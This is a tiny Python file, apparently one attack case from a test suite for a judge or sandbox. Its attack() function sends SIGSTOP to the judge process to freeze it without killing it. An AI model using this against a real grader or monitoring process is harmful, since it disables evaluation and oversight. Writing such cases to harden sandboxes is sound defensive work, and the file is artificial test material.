"""Stops the judge for good, without killing it.

shows: late
layers: syscalls user
slow: yes
"""
import os
import signal

import outside


def attack():
    os.kill(outside.judge(), signal.SIGSTOP)
